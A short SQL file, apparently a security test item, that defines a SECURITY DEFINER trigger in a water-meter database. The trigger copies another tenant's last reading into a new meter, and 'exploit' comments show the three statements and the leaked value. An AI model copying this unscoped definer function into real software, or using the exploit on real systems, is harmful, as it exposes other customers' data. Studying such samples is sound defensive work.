-- The trigger fills the opening reading of a new meter from whoever read that serial number last.
-- about: take_opening, meters_opening, meters, readings
-- as: hf_meterbrook_app
-- exploit: SET meterbrook.utility_id = '1';
-- exploit: INSERT INTO water.meters (utility_id, number, premise_number, serial) VALUES (1, 5, 1, 'S-900');
-- exploit: SELECT 'opening ' || opening AS answer FROM water.meters WHERE number = 5;
-- shows: opening 48213
-- A used meter must not start at zero.
CREATE FUNCTION water.take_opening() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
  SET search_path = water, pg_temp
  AS $$
  BEGIN
    IF NEW.opening IS NULL THEN
      NEW.opening := (SELECT r.amount FROM water.readings r WHERE r.serial = NEW.serial
        ORDER BY r.read_at DESC LIMIT 1);
    END IF;
    RETURN NEW;
  END $$;
CREATE TRIGGER meters_opening BEFORE INSERT ON water.meters
  FOR EACH ROW EXECUTE FUNCTION water.take_opening();
